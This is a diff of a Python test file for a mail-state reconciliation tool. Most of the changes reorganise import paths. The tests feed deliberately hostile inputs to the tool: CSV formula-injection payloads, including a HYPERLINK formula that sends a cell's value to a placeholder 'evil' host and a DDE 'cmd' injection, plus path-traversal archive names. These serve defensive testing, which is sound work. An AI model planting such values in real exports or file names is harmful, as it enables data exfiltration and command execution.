@@ -210,7 +210,7 @@ def test_other_names_stay_case_sensitive(tmp_path: Path) -> None:
 def test_desired_imap_keys_an_inbox_folder_once_as_the_server_names_it(tmp_path: Path) -> None:
     """``inbox/X`` in the TOML is the server's ``INBOX/X``: one shared_folder record, and its acls are on
     INBOX/X (not a second folder that would be created and revoked on every plan)."""
-    from mailstate.reconciler.desired_imap import project_imap
+    from mailstate.desired_state.projection_imap import project_imap
 
     _write(tmp_path, "folders.toml",
            '[[shared_folder]]\nmailbox = "bangnv"\npurpose = "Văn bản"\nread = ["group:lanhdao"]',
@@ -228,10 +228,10 @@ def test_desired_imap_keys_an_inbox_folder_once_as_the_server_names_it(tmp_path:
 
 
 def _hostile_plan() -> object:
-    from mailstate.reconciler.change import Record
-    from mailstate.reconciler.desired import Desired
-    from mailstate.reconciler.diff import diff
-    from mailstate.reconciler.plan import Plan
+    from mailstate.desired_state.projection import Desired
+    from mailstate.model.records import Record
+    from mailstate.reconciler.plan.diff import diff
+    from mailstate.reconciler.plan.plan import Plan
 
     def person(key: str, **attrs: object) -> Record:
         base = {"name": "Nguyễn Văn Bằng", "unit": "qlcn", "title": "Chuyên viên", "address": f"{key}@x.vn",
@@ -253,7 +253,7 @@ def _hostile_plan() -> object:
 def test_text_plan_shows_live_controls_escaped_and_forges_no_line() -> None:
     """A live title with a newline cannot add a line looking like a change; ESC and bidi are shown as
     escapes; rich markup in a value is printed as written (no colour without a TTY, none forged with one)."""
-    from mailstate.reconciler.render import TextRenderer
+    from mailstate.reconciler.plan.render import TextRenderer
 
     plan = _hostile_plan()
     plain = TextRenderer(color=False).render(plan)  # type: ignore[arg-type]
@@ -269,7 +269,7 @@ def test_text_plan_shows_live_controls_escaped_and_forges_no_line() -> None:
 
 
 def test_markdown_plan_shows_live_controls_escaped() -> None:
-    from mailstate.reconciler.render import MarkdownRenderer
+    from mailstate.reconciler.plan.render import MarkdownRenderer
 
     text = MarkdownRenderer().render(_hostile_plan())  # type: ignore[arg-type]
     assert not CONTROL_RE.search(text.replace("\n", ""))
@@ -306,7 +306,7 @@ def test_csv_cell_neutralises_a_formula(value: str) -> None:
 
 
 def test_directory_csv_neutralises_every_column() -> None:
-    from mailstate.reconciler.directory import Entry, to_csv
+    from mailstate.adopt.directory import Entry, to_csv
 
     evil = '=HYPERLINK("http://evil/?"&A1,"Bấm")'
     e = Entry("person", "bangnv", evil, "qlcn", "+cmd|' /C calc'!A0", "@SUM(1+1)", "+84 256", "-x@x.vn")
@@ -322,8 +322,8 @@ def test_directory_csv_neutralises_every_column() -> None:
 
 @pytest.mark.parametrize("name", ["../x-2026-01-01", "a/b", ".", "..", ".x", "", "x\x00y", "x\ny"])
 def test_an_archive_name_from_a_live_login_stays_inside_archive_dir(name: str) -> None:
-    from mailstate.desired_state.model import SshSettings
-    from mailstate.providers.ssh import SshProvider
+    from mailstate.model.settings import SshSettings
+    from mailstate.providers.doveadm.provider import SshProvider
 
     prov = SshProvider(SshSettings(archive_dir="/srv/mail-archive"))
     assert prov._path("bangnv-2026-01-01") == "/srv/mail-archive/bangnv-2026-01-01"
@@ -332,8 +332,8 @@ def test_an_archive_name_from_a_live_login_stays_inside_archive_dir(name: str) -
 
 
 def test_import_refuses_a_path_outside_out(tmp_path: Path) -> None:
+    from mailstate.adopt.importer import _inside
     from mailstate.errors import MailstateError
-    from mailstate.reconciler.importer import _inside
 
     out = tmp_path / "out"
     out.mkdir()
